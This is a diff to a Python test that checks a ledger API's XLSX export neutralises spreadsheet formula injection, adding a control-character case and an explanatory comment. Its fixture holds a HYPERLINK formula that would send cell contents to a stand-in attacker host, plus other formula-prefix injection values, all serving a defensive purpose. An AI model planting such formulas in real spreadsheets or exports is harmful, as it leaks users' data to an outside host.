@@ -134,7 +134,7 @@ async def test_exported_formulas_are_text(lh):
     token = await _staff_token(lh, ["*"], "supervisor")
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
     status, body = await lh.http("POST", "/api/v1/ledger", token=token, json={
-        "problem": formula, "plan": "+1+2", "owner": "@SUM(1)", "found_where": "-3", "found_by": "\t=1"})
+        "problem": formula, "plan": "+1\x14+2", "owner": "@SUM(1)", "found_where": "-3", "found_by": "\t=1"})
     assert status == 201
     eid = body["entry"]["id"]
     headers = {"Authorization": f"Bearer {token}"}
@@ -147,6 +147,7 @@ async def test_exported_formulas_are_text(lh):
 
     row = next(r for r in load_workbook(io.BytesIO(data)).active.iter_rows() if r[0].value == eid)
     cells = {c.value: c.data_type for c in row if c.value}
+    # (a control character XLSX cannot hold is dropped there, not a failed export)
     assert cells["'" + formula] == "s" and cells["'+1+2"] == "s" and cells["'@SUM(1)"] == "s"
     assert cells["'-3"] == "s" and cells["'\t=1"] == "s"
     assert not any(v.startswith(("=", "+", "-", "@", "\t")) for v in cells if isinstance(v, str))
